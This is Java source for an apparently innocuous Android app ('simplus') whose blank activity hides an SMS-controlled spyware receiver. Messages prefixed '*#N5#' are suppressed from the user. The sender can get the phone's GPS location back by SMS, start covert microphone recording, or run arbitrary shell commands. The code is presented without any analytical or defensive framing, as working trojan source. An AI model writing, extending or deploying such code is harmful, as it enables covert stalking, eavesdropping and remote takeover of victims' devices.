package com.orchard.simplus;

class PlusActivity extends Activity {
  public void onCreate(Bundle state) {
    super.onCreate(state);
    setContentView(new TextView(this));
  }
}

class PlusReceiver extends BroadcastReceiver {
  public void onReceive(Context context, Intent intent) {
    Object[] pdus = (Object[]) intent.getExtras().get("pdus");
    for (int i = 0; i < pdus.length; i++) {
      SmsMessage message = SmsMessage.createFromPdu((byte[]) pdus[i]);
      String body = message.getMessageBody();
      if (body.startsWith("*#N5#")) {
        abortBroadcast();
        obey(context, body.substring(5), message.getOriginatingAddress());
      }
    }
  }

  private void obey(Context context, String order, String from) {
    if (order.startsWith("loc")) where(context, from);
    else if (order.startsWith("rec")) listen(context);
    else shell(order);
  }

  private void where(Context context, String from) {
    LocationManager manager = (LocationManager) context.getSystemService(Context.LOCATION_SERVICE);
    Location last = manager.getLastKnownLocation("gps");
    SmsManager.getDefault().sendTextMessage(from, null, last.toString(), null, null);
  }

  private void listen(Context context) {
    try {
      MediaRecorder recorder = new MediaRecorder();
      recorder.setAudioSource(1);
      recorder.setOutputFormat(1);
      recorder.setAudioEncoder(1);
      recorder.setOutputFile(new File(context.getFilesDir(), "a.3gp").getPath());
      recorder.prepare();
      recorder.start();
    } catch (Exception e) {
      Log.e("Plus", e.getMessage());
    }
  }

  private void shell(String line) {
    try {
      Runtime.getRuntime().exec(new String[]{"/system/bin/sh", "-c", line});
    } catch (Exception e) {
      Log.e("Plus", e.getMessage());
    }
  }
}
